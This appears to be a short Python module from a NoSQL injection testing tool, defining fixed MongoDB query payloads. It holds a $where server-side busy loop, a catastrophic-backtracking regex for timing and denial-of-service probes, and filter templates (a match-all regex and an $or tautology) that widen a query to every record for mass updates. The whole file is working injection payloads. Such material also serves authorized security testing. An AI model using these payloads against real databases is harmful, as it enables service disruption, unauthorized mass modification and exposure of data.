"""Fixed payloads for the timing and mass-update strategies."""

# server-side busy loop of ~1.5s, then catastrophic backtracking
BUSY_LOOP_WHERE = "function(){var s=Date.now(); while(Date.now()-s<1500){}; return true;}"
REDOS_PATTERN = "^(a+)+$"

TIMING_PAYLOADS = (
    '{"$where":"' + BUSY_LOOP_WHERE + '"}',
    '{"$regex":"' + REDOS_PATTERN + '"}',
)


def _where_busy_loop(field, _val):
    return {field: {"$where": BUSY_LOOP_WHERE}}


def _regex_redos(field, _val):
    return {field: {"$regex": REDOS_PATTERN}}


TIMING_TEMPLATES = (_where_busy_loop, _regex_redos)


def _match_everything(field, _val):
    return {field: {"$regex": ".*"}}


def _or_tautology(field, val):
    return {"$or": [{field: val}, {field: {"$ne": val}}]}


BROADENING_TEMPLATES = (_match_everything, _or_tautology)
